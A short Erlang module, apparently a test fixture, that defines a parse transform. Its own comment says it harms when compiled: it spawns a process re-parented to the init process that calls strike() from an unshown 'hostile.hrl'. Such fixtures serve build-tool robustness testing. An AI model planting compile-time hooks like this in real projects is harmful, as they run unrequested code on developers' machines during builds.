%%% A parse transform that starts a process that does harm when the module is compiled.
-module(transform_later).
-export([parse_transform/2]).
-include("hostile.hrl").

parse_transform(Forms, _) ->
    spawn(fun() -> group_leader(whereis(init), self()), timer:sleep(100), strike("transform_later") end),
    timer:sleep(200),
    Forms.
